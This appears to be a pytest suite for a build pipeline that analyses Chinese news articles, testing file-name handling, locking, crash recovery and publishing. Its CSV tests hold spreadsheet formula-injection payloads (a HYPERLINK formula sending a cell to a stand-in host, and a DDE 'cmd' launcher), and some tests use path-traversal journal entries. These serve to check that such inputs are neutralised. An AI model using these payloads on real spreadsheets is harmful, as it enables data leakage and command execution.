"""The build under what researchers throw at it: odd file names, two runs at once, kills, full disks, bad word lists,
stuck or dying kernels. Each failure is one line saying what failed and where; previous outputs are kept."""

import json
import re
import subprocess
import sys
import time

import pandas as pd
import pytest
from articles import HTML_PAGES, XINAN, write_article
from tiny_notebooks import tiny_notebook

from analysis import config
from analysis.__main__ import main
from analysis.files import write_csv
from analysis.numbers.auditing import read_audit
from analysis.numbers.extracting import read_statistics
from analysis.pipeline import building
from analysis.pipeline.building import ArticleBuild, BuildError, build, code_fingerprint, output_error, relative_files

SEED_SLUG = "2021-07-29_hkcd_xixiang-xuexi-qiangguo"


def command(*args, cwd=config.ROOT):
    """Run `python -m analysis` with arguments; the finished process."""
    return subprocess.run(
        [sys.executable, "-m", "analysis", *map(str, args)], capture_output=True, text=True, cwd=cwd, check=False
    )


def one_line_error(run, *fragments):
    """Assert a command failed with a one-line message holding every fragment, and no traceback."""
    assert run.returncode != 0
    lines = [line for line in run.stderr.splitlines() if line.strip()]
    assert len(lines) == 1 and "Traceback" not in run.stderr, run.stderr
    for fragment in fragments:
        assert str(fragment) in lines[0], lines[0]


def outputs(out):
    """Every published file under out (not the staging folder) with its bytes."""
    return {rel: p.read_bytes() for rel, p in relative_files(out).items() if not rel.startswith(".build/")}


WRITES_TABLE = (
    "import pandas as pd\nfrom analysis import config\nfrom analysis.files import write_csv\n"
    "paths = config.article_paths(article_path, out)\n"
    "_ = write_csv(paths.processed / 'size.csv', pd.DataFrame({'bytes': [paths.article.stat().st_size]}))"
)


# --- output folder names (issue 12, defect 2) ---


@pytest.mark.parametrize(
    "names",
    [("a b.txt", "a.b.txt", "a_b.txt"), ("x!.txt", "x?.txt", "x.txt"), ("新聞 1.txt", "新聞.1.txt", "新聞_1.txt")],
)
def test_names_that_differ_only_in_unsafe_characters_get_different_folders(names):
    slugs = [config.slug(name) for name in names]
    assert len(set(slugs)) == len(slugs), slugs


@pytest.mark.parametrize("name", ["西鄉街道.txt", "2021-07-29_hkcd_xixiang-xuexi-qiangguo.txt", "a_b.txt", "é-1.txt"])
def test_safe_names_are_kept_as_they_are(name):
    assert config.slug(name) == name.removesuffix(".txt")


@pytest.mark.parametrize("name", ["!!!.txt", ".txt", "...txt", "《》.txt", "a/../b.txt", "x" * 300 + ".txt", "-.txt"])
def test_folder_names_are_never_empty_and_always_safe(name):
    slug = config.slug(name)
    assert slug and len(slug) <= config.SLUG_LENGTH + 9
    assert all(c.isalnum() or c in "-_" for c in slug), slug
    assert not slug.startswith((".", "-"))


@pytest.mark.parametrize("length", [76, 80, 83])
def test_a_long_cjk_file_name_is_built_and_published(tmp_path, length):
    article = write_article(tmp_path / ("學" * length + ".txt"), XINAN["title"], XINAN["paragraphs"][:2])
    name = config.slug(article)
    assert len(name.encode()) <= config.SLUG_BYTES + 9
    out = tmp_path / "out"
    build([article], out, steps=[])
    assert json.loads((out / "data/processed" / name / "build.json").read_text(encoding="utf-8")) == {}


def test_a_corpus_of_a_long_cjk_file_name_is_analysed(tmp_path):
    from analysis.corpus.analysing import run_corpus

    folder = tmp_path / "c"
    folder.mkdir()
    write_article(folder / ("學" * 83 + ".txt"), XINAN["title"], XINAN["paragraphs"][:2])
    (folder / ("學" * 83 + ".html")).write_text(HTML_PAGES["hkcd"]()[0], encoding="utf-8")
    assert run_corpus(folder, tmp_path / "out", jobs=1, quiet=True) == 0
    texts = [p.name for p in (tmp_path / "out" / "texts").iterdir()]
    assert len(texts) == 2 and all(len(name.encode()) <= 255 for name in texts)


def test_the_same_file_given_twice_is_built_once(tmp_path):
    step = tiny_notebook(tmp_path / "01_size.ipynb", WRITES_TABLE)
    out = tmp_path / "out"
    again = config.ROOT / "data" / ".." / "data" / "raw" / config.ARTICLE.name
    outcome = build([config.ARTICLE, again], out, steps=[step])
    assert outcome.executed == [(SEED_SLUG, "01_size")]
    assert (out / "data/processed" / SEED_SLUG / "size.csv").is_file()


def test_two_files_that_would_share_a_folder_are_refused_before_anything_runs(tmp_path):
    for folder in ("one", "two"):
        (tmp_path / folder).mkdir()
        write_article(tmp_path / folder / "x.txt", XINAN["title"], XINAN["paragraphs"][:2])
    out = tmp_path / "out"
    with pytest.raises(BuildError, match=r"one/x\.txt and .*two/x\.txt would both write to the output folder 'x'"):
        build([tmp_path / "one/x.txt", tmp_path / "two/x.txt"], out, steps=[])
    assert not out.exists()


def test_command_refuses_a_clash_in_one_line(tmp_path):
    for folder in ("one", "two"):
        (tmp_path / folder).mkdir()
        write_article(tmp_path / folder / "x.txt", XINAN["title"], XINAN["paragraphs"][:2])
    run = command("report", tmp_path / "one/x.txt", tmp_path / "two/x.txt", "--out", tmp_path / "out", "--quiet")
    one_line_error(run, "would both write", "'x'")
    assert not (tmp_path / "out").exists()


# --- bad input (defect 1) ---


def impossible_date_article(path):
    """An article whose publication line names 30 February."""
    write_article(path, XINAN["title"], XINAN["paragraphs"])
    path.write_text(path.read_text(encoding="utf-8").replace("2022-03-15 09:30", "2022-02-30 09:30"), encoding="utf-8")
    return path


def test_report_on_an_impossible_date_says_so_in_one_line(tmp_path):
    bad = impossible_date_article(tmp_path / "bad.txt")
    run = command("report", bad, "--out", tmp_path / "out", "--quiet")
    assert run.returncode == 2
    one_line_error(run, bad)
    assert not (tmp_path / "out").exists()


def test_a_newline_in_a_file_name_keeps_the_error_on_one_line(tmp_path):
    bad = impossible_date_article(tmp_path / "a\nb.txt")
    run = command("report", bad, "--out", tmp_path / "out", "--quiet")
    assert run.returncode == 2
    one_line_error(run, "a\\nb.txt", "impossible publication date")
    folder = tmp_path / "c"
    folder.mkdir()
    write_article(folder / "good.txt", XINAN["title"], XINAN["paragraphs"])
    (folder / "empty\n.txt").write_bytes(b"")
    run = command("corpus", folder, "--out", tmp_path / "tables", "--quiet", "--tables-only")
    assert run.returncode == 0
    assert "corpus: skipped empty\\n.txt: the file is empty\n" in run.stderr


def test_corpus_in_two_processes_goes_past_a_bad_file(tmp_path):
    folder = tmp_path / "c"
    folder.mkdir()
    write_article(folder / "a_good.txt", XINAN["title"], XINAN["paragraphs"])
    impossible_date_article(folder / "b_bad.txt")
    write_article(folder / "c_good.txt", XINAN["title"], XINAN["paragraphs"][:2])
    run = command("corpus", folder, "--out", tmp_path / "tables", "--jobs", "2", "--quiet")
    assert run.returncode == 0, run.stderr
    errors = pd.read_csv(tmp_path / "tables" / "errors.csv", keep_default_na=False)
    assert errors["article"].tolist() == ["b_bad.txt"]
    assert errors["error"].iloc[0].startswith("line ") and "impossible publication date" in errors["error"].iloc[0]
    assert str(tmp_path) not in errors["error"].iloc[0], "the table names the file; the message is the problem"
    statistics = pd.read_csv(tmp_path / "tables" / "statistics.csv", keep_default_na=False)
    assert sorted(set(statistics["article"])) == ["a_good.txt", "c_good.txt"]
    assert "Traceback" not in run.stderr and "b_bad.txt" in run.stderr


def test_report_refuses_jobs_below_one_and_a_pipe_in_one_line(tmp_path):
    import os

    run = command("report", config.ARTICLE, "--jobs", "-1", "--out", tmp_path / "out", "--quiet")
    one_line_error(run, "report: --jobs must be at least 1, not -1")
    pipe = tmp_path / "pipe.txt"
    os.mkfifo(pipe)
    run = command("report", pipe, "--out", tmp_path / "out", "--quiet")
    assert run.returncode == 2
    one_line_error(run, pipe, "not a regular file")
    assert not (tmp_path / "out").exists()


def test_a_number_beyond_floats_is_listed_as_not_read(tmp_path):
    from analysis import extract_statistics, load_article
    from analysis.numbers.extracting import numerals_left_out

    huge = "9" * 400
    path = write_article(tmp_path / "a.txt", XINAN["title"], [f"福永街道註冊人數達{huge}人，其中黨員2100人。"])
    article = load_article(path)
    statistics = extract_statistics(article)
    assert statistics["value"].dropna().tolist() == [2100.0]
    assert huge in numerals_left_out(article, statistics)["word"].str.cat()


# --- the lock (defect 3) ---


@pytest.fixture
def other_build(tmp_path):
    """Another process holding the build lock of tmp_path/out for a second; yields the folder."""
    out = tmp_path / "out"
    (out / ".build").mkdir(parents=True)
    code = (
        "import sys, time\nfrom filelock import FileLock\nwith FileLock(sys.argv[1]):\n    print('held', flush=True)\n"
    )
    code += "    time.sleep(float(sys.argv[2]))\n"
    holder = subprocess.Popen(
        [sys.executable, "-c", code, str(out / ".build" / "lock"), "1"], stdout=subprocess.PIPE, text=True
    )
    assert holder.stdout.readline().strip() == "held"
    yield out
    holder.wait(timeout=30)


def test_a_second_build_is_told_another_is_running(other_build):
    out = other_build
    with pytest.raises(
        BuildError, match=re.escape(f"another build is writing to {out}; run again when it has finished")
    ):
        build([config.ARTICLE], out, steps=[], wait_seconds=0)
    with pytest.raises(BuildError, match=r"still writing .* after 0\.2 s"):
        build([config.ARTICLE], out, steps=[], wait_seconds=0.2)
    assert not (out / "data").exists()


def test_a_second_build_waits_for_the_first_with_a_message(other_build):
    out = other_build
    messages = []
    started = time.monotonic()
    build([config.ARTICLE], out, steps=[], notify=messages.append)
    assert time.monotonic() - started >= 0.3
    assert messages == [f"another build is writing to {out}; waiting for it to finish"]
    assert (out / "data/processed" / SEED_SLUG / "build.json").is_file()


def test_a_corpus_run_takes_the_build_lock_of_its_out(tmp_path, capsys):
    from analysis.corpus.analysing import run_corpus

    folder, out = tmp_path / "c", tmp_path / "out"
    folder.mkdir()
    write_article(folder / "a.txt", XINAN["title"], XINAN["paragraphs"])
    (out / ".build").mkdir(parents=True)
    # another process holds the lock until its stdin closes: no clock decides who has it
    code = "import sys\nfrom filelock import FileLock\nwith FileLock(sys.argv[1]):\n    print('held', flush=True)\n"
    code += "    sys.stdin.read()\n"
    holder = subprocess.Popen([sys.executable, "-c", code, str(out / ".build" / "lock")], stdin=subprocess.PIPE,
                              stdout=subprocess.PIPE, text=True)
    assert holder.stdout.readline().strip() == "held"
    try:
        assert main(["corpus", str(folder), "--out", str(out), "--wait", "0", "--quiet", "--tables-only"]) == 1
        assert capsys.readouterr().err == f"corpus: another build is writing to {out}; run again when it has finished\n"
        assert not (out / "articles.csv").exists()
    finally:
        holder.stdin.close()
        holder.wait(timeout=30)
    assert run_corpus(folder, out, jobs=1, quiet=True) == 0
    assert pd.read_csv(out / "articles.csv")["article"].tolist() == ["a.txt"]


# --- failures other than a cell error (defect 5) ---


def test_an_unwritable_out_is_named_before_anything_runs(tmp_path):
    blocker = tmp_path / "a-file"
    blocker.write_text("not a folder", encoding="utf-8")
    with pytest.raises(BuildError, match=re.escape(f"cannot write to {blocker / 'out'}: Not a directory")):
        build([config.ARTICLE], blocker / "out", steps=[])
    run = command("report", config.ARTICLE, "--out", blocker / "out", "--quiet")
    one_line_error(run, "cannot write to", blocker / "out")


@pytest.mark.parametrize(
    ("evalue", "reason"),
    [
        ("[Errno 28] No space left on device: '/x/y.png'", "No space left on device"),
        ("[Errno 30] Read-only file system: '/x'", "Read-only file system"),
        ("[Errno 2] No such file or directory: 'data.csv'", None),
        ("division by zero", None),
    ],
)
def test_output_errors_are_told_from_notebook_errors(evalue, reason):
    assert output_error(evalue) == reason


def test_a_full_disk_is_blamed_on_the_folder_not_on_a_cell(tmp_path):
    step = tiny_notebook(tmp_path / "01_full.ipynb", "raise OSError(28, 'No space left on device', 'x.png')")
    with pytest.raises(
        BuildError, match=r"cannot write the outputs of .*01_full\.ipynb .*No space left on device"
    ) as e:
        build([config.ARTICLE], tmp_path / "out", steps=[step])
    assert "cell" not in str(e.value)


def test_a_full_disk_while_writing_a_report_is_one_line(tmp_path, monkeypatch):
    step = tiny_notebook(tmp_path / "01_size.ipynb", WRITES_TABLE)

    def disk_full(*args):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(building, "write_text", disk_full)
    with pytest.raises(
        BuildError, match=r"cannot write the outputs of 01_size for .* under .*: No space left on device"
    ):
        build([config.ARTICLE], tmp_path / "out", steps=[step])
    assert not (tmp_path / "out" / "data").exists()


def test_a_cell_that_runs_too_long_is_stopped_and_named(tmp_path, monkeypatch):
    out = tmp_path / "out"
    good = tiny_notebook(tmp_path / "01_size.ipynb", WRITES_TABLE)
    build([config.ARTICLE], out, steps=[good])
    before = outputs(out)
    monkeypatch.setattr(building, "CELL_TIMEOUT", 2)  # after the good build, which a busy machine may slow down
    slow = tiny_notebook(tmp_path / "01_size.ipynb", "import time\ntime.sleep(60)")
    with pytest.raises(BuildError, match=r"01_size\.ipynb for .*: a cell ran longer than the limit of 2 s"):
        build([config.ARTICLE], out, steps=[slow])
    assert outputs(out) == before


def test_a_dead_kernel_is_named(tmp_path):
    step = tiny_notebook(tmp_path / "01_dies.ipynb", "import os\nos._exit(1)")
    with pytest.raises(BuildError, match=r"01_dies\.ipynb for .*: the kernel died"):
        build([config.ARTICLE], tmp_path / "out", steps=[step])


def test_a_user_dictionary_that_is_not_utf8_is_named_before_anything_runs(tmp_path, monkeypatch):
    lexicon = tmp_path / "lexicon"
    lexicon.mkdir()
    (lexicon / "userdict.txt").write_bytes("# 詞典\n".encode() + "學習強國 nz\n".encode("big5hkscs"))
    (lexicon / "stopwords.txt").write_text("的\n", encoding="utf-8")
    monkeypatch.setattr(config, "LEXICON", lexicon)
    with pytest.raises(BuildError, match=r"lexicon/userdict\.txt:2: not UTF-8 text \(byte 9"):
        build([config.ARTICLE], tmp_path / "out", steps=[])
    assert not (tmp_path / "out").exists()


# --- publishing as one step (defect 8) and stale staging (defect 12) ---


class Killed(BaseException):
    """Stands in for SIGKILL in the middle of publishing."""


def staged_build(out, outputs_by_name):
    """An ArticleBuild of the seed whose notebooks 'ran', leaving the given files in their staging folders."""
    b = ArticleBuild(config.ARTICLE, out, [], "fingerprint", html=True)
    for name, files in outputs_by_name.items():
        for rel, text in files.items():
            (b.stage / name / rel).parent.mkdir(parents=True, exist_ok=True)
            (b.stage / name / rel).write_text(text, encoding="utf-8")
        b.results[name] = {"inputs": f"key-{name}", "outputs": {rel: "hash" for rel in files}}
    return b


def test_a_kill_while_publishing_is_completed_by_the_next_run(tmp_path, monkeypatch):
    out = tmp_path / "out"
    table, chart = f"data/processed/{SEED_SLUG}/table.csv", f"figures/{SEED_SLUG}/chart.svg"
    old = staged_build(out, {"01": {table: "old table", chart: "old chart", f"figures/{SEED_SLUG}/gone.png": "x"}})
    old.publish()
    old.clean()

    new = staged_build(out, {"01": {table: "new table", chart: "new chart"}})
    moves = []
    real_replace = building.os.replace

    def replace_then_die(source, target):
        if not str(source).endswith(".part"):  # a publishing move, not an atomic write
            if moves:
                raise Killed
            moves.append(target)
        real_replace(source, target)

    monkeypatch.setattr(building.os, "replace", replace_then_die)
    with pytest.raises(Killed):
        new.publish()
    monkeypatch.setattr(building.os, "replace", real_replace)
    assert len(moves) == 1, "killed between two moves: one file is new, the other old"
    manifest = out / "data/processed" / SEED_SLUG / "build.json"
    assert json.loads(manifest.read_text(encoding="utf-8"))["01"]["inputs"] == "key-01", "build.json moves last"

    messages = []
    build([config.ARTICLE], out, steps=[], notify=messages.append)
    assert (out / table).read_text(encoding="utf-8") == "new table"
    assert (out / chart).read_text(encoding="utf-8") == "new chart"
    assert not (out / "figures" / SEED_SLUG / "gone.png").exists(), "outputs no longer written are dropped"
    assert messages and "left unfinished" in messages[0]
    assert [p.name for p in (out / ".build").iterdir()] == ["lock"]


def test_a_failed_publish_journal_keeps_the_previous_outputs(tmp_path, monkeypatch):
    out = tmp_path / "out"
    table = f"data/processed/{SEED_SLUG}/table.csv"
    old = staged_build(out, {"01": {table: "old"}})
    old.publish()
    old.clean()
    new = staged_build(out, {"01": {table: "new"}})

    def disk_full(*args):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(building, "write_json", disk_full)
    with pytest.raises(BuildError, match=r"cannot publish .*No space left on device; previous outputs kept"):
        new.publish()
    new.clean()
    assert (out / table).read_text(encoding="utf-8") == "old"


def test_stale_staging_folders_of_other_articles_are_removed(tmp_path):
    out = tmp_path / "out"
    stale = out / ".build" / "some-other-article" / "02_word_frequency"
    stale.mkdir(parents=True)
    (stale / "half-written.csv").write_text("a,b\n", encoding="utf-8")
    (out / ".build" / ".x.part").write_text("", encoding="utf-8")
    build([config.ARTICLE], out, steps=[])
    assert [p.name for p in (out / ".build").iterdir()] == ["lock"]


def test_a_torn_journal_is_set_aside_with_a_warning(tmp_path):
    out = tmp_path / "out"
    (out / ".build").mkdir(parents=True)
    (out / ".build" / f"{SEED_SLUG}.publish.json").write_text('{"moves": [["a", "b"', encoding="utf-8")
    messages = []
    build([config.ARTICLE], out, steps=[], notify=messages.append)
    assert len(messages) == 1 and "set aside the publish journal" in messages[0] and "\n" not in messages[0]
    assert sorted(p.name for p in (out / ".build").iterdir()) == [f"{SEED_SLUG}.publish.json.unreadable", "lock"]
    assert build([config.ARTICLE], out, steps=[], notify=messages.append).executed == []
    assert len(messages) == 1, "set aside once, never read again"


@pytest.mark.parametrize("outside", ["../victim.txt", "data/../../victim.txt", "VICTIM"])
def test_a_journal_naming_a_path_outside_out_touches_nothing_there(tmp_path, outside):
    out, victim = tmp_path / "out", tmp_path / "victim.txt"
    victim.write_text("not the build's", encoding="utf-8")
    outside = outside.replace("VICTIM", str(victim))
    (out / ".build").mkdir(parents=True)
    plan = {"moves": [], "deletes": [f"data/processed/{SEED_SLUG}/old.csv", outside]}
    (out / ".build" / f"{SEED_SLUG}.publish.json").write_text(json.dumps(plan), encoding="utf-8")
    messages = []
    build([config.ARTICLE], out, steps=[], notify=messages.append)
    assert victim.read_text(encoding="utf-8") == "not the build's"
    assert len(messages) == 1 and "set aside the publish journal" in messages[0]


def test_a_build_record_naming_a_path_outside_out_is_not_trusted(tmp_path):
    step = tiny_notebook(tmp_path / "01_size.ipynb", WRITES_TABLE)
    out, victim = tmp_path / "out", tmp_path / "victim.txt"
    victim.write_text("not the build's", encoding="utf-8")
    build([config.ARTICLE], out, steps=[step])
    manifest = out / "data/processed" / SEED_SLUG / "build.json"
    recorded = json.loads(manifest.read_text(encoding="utf-8"))
    recorded["01_size"]["outputs"]["../victim.txt"] = "0" * 64
    manifest.write_text(json.dumps(recorded), encoding="utf-8")
    assert build([config.ARTICLE], out, steps=[step]).executed == [(SEED_SLUG, "01_size")]
    assert victim.read_text(encoding="utf-8") == "not the build's"
    assert "victim" not in manifest.read_text(encoding="utf-8")


def test_stale_staging_is_removed_with_a_word_or_refused_in_one_line(tmp_path, monkeypatch):
    out = tmp_path / "out"
    stale = out / ".build" / "some-other-article"
    stale.mkdir(parents=True)
    messages = []
    build([config.ARTICLE], out, steps=[], notify=messages.append)
    assert messages == [f"removed some-other-article from {out / '.build'}, which an earlier build left"]
    stale.mkdir()

    def refused(path, *args, **kwargs):
        raise PermissionError(13, "Permission denied")

    monkeypatch.setattr(building.shutil, "rmtree", refused)
    with pytest.raises(BuildError, match=re.escape(f"cannot remove {stale}, which an earlier build left: Permission")):
        build([config.ARTICLE], out, steps=[])


@pytest.mark.parametrize("damage", [b"{not json", b"[]"])
def test_a_damaged_build_record_means_a_rebuild_not_a_crash(tmp_path, damage):
    step = tiny_notebook(tmp_path / "01_size.ipynb", WRITES_TABLE)
    out = tmp_path / "out"
    build([config.ARTICLE], out, steps=[step])
    (out / "data/processed" / SEED_SLUG / "build.json").write_bytes(damage)
    assert build([config.ARTICLE], out, steps=[step]).executed == [(SEED_SLUG, "01_size")]


# --- the fingerprint (defect 11) ---


@pytest.fixture
def source_tree(tmp_path):
    """A project's sources in miniature: the package with a template, the word lists and the requirements."""
    (tmp_path / "analysis" / "pipeline" / "templates" / "report").mkdir(parents=True)
    (tmp_path / "analysis" / "reading").mkdir()
    (tmp_path / "analysis" / "reading" / "loading.py").write_text("x = 1\n", encoding="utf-8")
    template = tmp_path / "analysis" / "pipeline" / "templates" / "report" / "index.html.j2"
    template.write_text("{{ x }}\n", encoding="utf-8")
    (tmp_path / "data" / "lexicon").mkdir(parents=True)
    (tmp_path / "data" / "lexicon" / "userdict.txt").write_text("學習強國 nz\n", encoding="utf-8")
    (tmp_path / "requirements.txt").write_text("pandas==2.0\n", encoding="utf-8")
    return tmp_path


@pytest.mark.parametrize(
    "junk",
    [
        "analysis/.ipynb_checkpoints/loading-checkpoint.py",
        "analysis/reading/__pycache__/loading.cpython-311.pyc",
        "analysis/reading/loading.py~",
        "analysis/reading/.loading.py.swp",
        "analysis/pipeline/templates/report/index.html.j2.orig",
        "data/lexicon/.~lock.userdict.txt#",
        "data/lexicon/userdict.txt.bak",
        "data/lexicon/README.md",
    ],
)
def test_files_that_are_not_sources_do_not_change_the_fingerprint(source_tree, junk):
    before = code_fingerprint(source_tree)
    (source_tree / junk).parent.mkdir(parents=True, exist_ok=True)
    (source_tree / junk).write_text("anything", encoding="utf-8")
    assert code_fingerprint(source_tree) == before


@pytest.mark.parametrize(
    "source",
    [
        "analysis/reading/loading.py",
        "analysis/pipeline/templates/report/index.html.j2",
        "data/lexicon/userdict.txt",
        "requirements.txt",
        "analysis/new_module.py",
    ],
)
def test_every_source_changes_the_fingerprint(source_tree, source):
    before = code_fingerprint(source_tree)
    with (source_tree / source).open("a", encoding="utf-8") as file:
        file.write("# changed\n")
    assert code_fingerprint(source_tree) != before


# --- CSV files Excel opens as UTF-8 ---


def test_csv_tables_carry_a_byte_order_mark_and_read_back_unchanged(tmp_path, article):
    from analysis import extract_statistics
    from analysis.numbers.auditing import audit_table, relations

    statistics = extract_statistics(article)
    path = write_csv(tmp_path / "statistics.csv", statistics)
    assert path.read_bytes().startswith("\ufeff".encode())
    again = read_statistics(path)
    assert list(again.columns) == list(statistics.columns)
    assert again["text"].tolist() == statistics["text"].tolist()
    found = relations(statistics)
    assert read_audit(write_csv(tmp_path / "audit.csv", audit_table(found))) == found


FORMULAS = ['=HYPERLINK("http://x.example/?t="&A2,"Open")', "+SUM(1+1)*cmd|' /C calc'!A0", "-12.5%", "@SUM(A1)",
            "\t=1+1", "'=already quoted", "'plain"]


def cells_a_spreadsheet_would_evaluate(path):
    """The cells of a CSV file that begin as a formula does (OWASP: = + - @ tab CR) and are not a number."""
    import csv

    def number(cell):
        try:
            float(cell)
        except ValueError:
            return False
        return True

    with path.open(encoding="utf-8-sig", newline="") as file:
        return [cell for row in csv.reader(file) for cell in row if cell and cell[0] in "=+-@\t\r" and not number(cell)]


def test_csv_cells_that_look_like_formulas_are_text_and_read_back_unchanged(tmp_path):
    from analysis.files import restored

    table = pd.DataFrame({"text": [*FORMULAS, "平常", ""], "value": [-1.5, 2.0, -3.0, 4.0, 5.0, 6.0, 7.0, -8.0, 9.0],
                          "count": [-1, 2, 3, 4, 5, 6, 7, 8, 9]})
    path = write_csv(tmp_path / "t.csv", table)
    assert cells_a_spreadsheet_would_evaluate(path) == []
    lines = path.read_text(encoding="utf-8-sig").splitlines()
    assert lines[3] == "'-12.5%,-3.0,3", "the text is quoted; numbers stay numbers"
    again = restored(pd.read_csv(path, keep_default_na=False))
    pd.testing.assert_frame_equal(again, table)


def test_no_table_of_a_corpus_run_holds_a_formula(tmp_path):
    from analysis.corpus.analysing import run_corpus
    from analysis.corpus.study import read_corpus

    folder = tmp_path / "c"
    folder.mkdir()
    title = '=HYPERLINK("http://x.example/?t="&A2,"學習強國")'  # with Han characters, so that it reads as a title
    write_article(folder / "=cmd.txt", title, [f"{FORMULAS[1]}福永街道註冊人數達8,200人。", *XINAN["paragraphs"][1:]])
    out = tmp_path / "out"
    assert run_corpus(folder, out, jobs=1, quiet=True) == 0
    tables = sorted(out.glob("*.csv"))
    assert len(tables) >= 9
    for path in tables:
        assert cells_a_spreadsheet_would_evaluate(path) == [], path.name
    assert "'=cmd.txt" in (out / "articles.csv").read_text(encoding="utf-8")
    articles = read_corpus(out)["articles"]
    assert articles[["article", "title"]].values.tolist() == [["=cmd.txt", title]]
    assert (out / "document_term_documents.txt").read_text(encoding="utf-8") == "=cmd.txt\n"


# --- `make figures` is incremental too ---


def test_figures_only_builds_run_only_what_is_out_of_date(tmp_path):
    step = tiny_notebook(tmp_path / "01_size.ipynb", WRITES_TABLE)
    out = tmp_path / "out"
    assert build([config.ARTICLE], out, html=False, steps=[step]).executed == [(SEED_SLUG, "01_size")]
    assert not (out / "reports").exists()
    assert build([config.ARTICLE], out, html=False, steps=[step]).executed == []
    full = build([config.ARTICLE], out, steps=[step])
    assert full.executed == [(SEED_SLUG, "01_size")], "its report was never rendered"
    assert (out / "reports" / SEED_SLUG / "01_size.html").is_file()
    assert build([config.ARTICLE], out, html=False, steps=[step]).executed == []
    assert build([config.ARTICLE], out, steps=[step]).executed == []
